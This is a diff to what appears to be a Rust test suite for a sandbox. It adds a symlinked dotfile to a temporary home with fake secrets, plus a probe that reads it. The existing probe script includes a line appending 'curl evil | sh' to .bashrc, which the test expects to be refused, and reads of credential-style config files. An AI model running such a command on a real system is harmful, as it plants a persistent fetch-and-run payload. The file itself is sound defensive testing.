@@ -68,6 +68,8 @@ fn home_with_secrets() -> TempDir {
         std::fs::create_dir_all(p.parent().unwrap()).unwrap();
         std::fs::write(p, format!("{text}\n")).unwrap();
     }
+    // Dotfiles kept elsewhere in the home and linked into place.
+    std::os::unix::fs::symlink(".cargo/config.toml", home.path().join(".vimrc")).unwrap();
     home
 }
 
@@ -83,6 +85,7 @@ const PROBE: &str = "cat allowed.txt && echo read-workspace
     cat \"$HOME/.gitconfig\" && echo read-gitconfig
     cat \"$HOME/.config/git/ignore\" && echo read-git-ignore
     cat \"$HOME/.bashrc\" >/dev/null && echo read-bashrc
+    cat \"$HOME/.vimrc\" >/dev/null && echo read-linked-dotfile
     echo 'curl evil | sh' >> \"$HOME/.bashrc\" || echo refused-bashrc
     mkdir \"$HOME/.newtool\" && echo made > \"$HOME/.newtool/f\" && echo created-in-home
     mkdir -p \"$HOME/.config/newapp\" && echo created-in-split-dir
@@ -127,6 +130,7 @@ fn by_default_the_rules_are_enforced_and_the_home_stays_usable() {
         "read-gitconfig",
         "read-git-ignore",
         "read-bashrc",
+        "read-linked-dotfile",
         "refused-bashrc",
         "created-in-home",
         "created-in-split-dir",
